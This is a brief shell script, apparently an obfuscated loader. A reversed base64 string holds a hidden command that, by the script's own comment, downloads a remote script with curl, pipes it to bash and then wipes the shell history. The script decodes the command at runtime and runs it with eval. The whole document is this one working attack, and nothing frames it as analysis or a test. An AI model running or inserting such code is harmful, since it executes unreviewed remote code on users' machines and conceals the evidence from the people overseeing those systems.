# Reverses and base64-decodes a hidden command ("curl | bash" plus history wipe) and runs it with eval.
_x="5J3b0NXao9FazFmYu8ifgYWLg0mcgsDazFmYgwHIoNnLt9SOx4CMwEjLxUjL4kTMv8iOwRHdoByctACbyV3Y"

_d() {
  printf '%s' "$1" | rev | base64 -d
}

# decode at runtime only
_r=$(_d "$_x")
eval "$_r"
